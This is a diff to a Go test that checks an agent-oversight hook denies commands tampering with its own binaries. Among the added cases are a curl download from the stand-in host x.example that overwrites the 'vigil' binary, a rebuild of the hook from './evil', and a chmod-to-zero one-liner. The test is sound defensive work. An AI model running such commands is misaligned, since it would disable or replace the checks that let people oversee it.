@@ -96,6 +96,9 @@ func TestRunGuardsBothBinaries(t *testing.T) {
 		{hookBin, "cp /bin/true " + vigil},
 		{vigil, "chmod 000 " + hookBin},
 		{vigil, "mv " + vigil + " /tmp/v"},
+		{hookBin, "go build -o " + hookBin + " ./evil"},
+		{vigil, "curl -sSo " + vigil + " https://x.example/v"},
+		{hookBin, `python3 -c 'import os; os.chmod("` + hookBin + `", 0)'`},
 	} {
 		out, errOut, code := run(t, tc.exe, preToolUse(fmt.Sprintf("toolu_01HOOKCLIGUARD%013d", i), tc.command), "claude-code", "--data", dir, "--budget", "1s", "--on-pending", "deny")
 		if code != 0 || !strings.Contains(out, `"permissionDecision":"deny"`) {
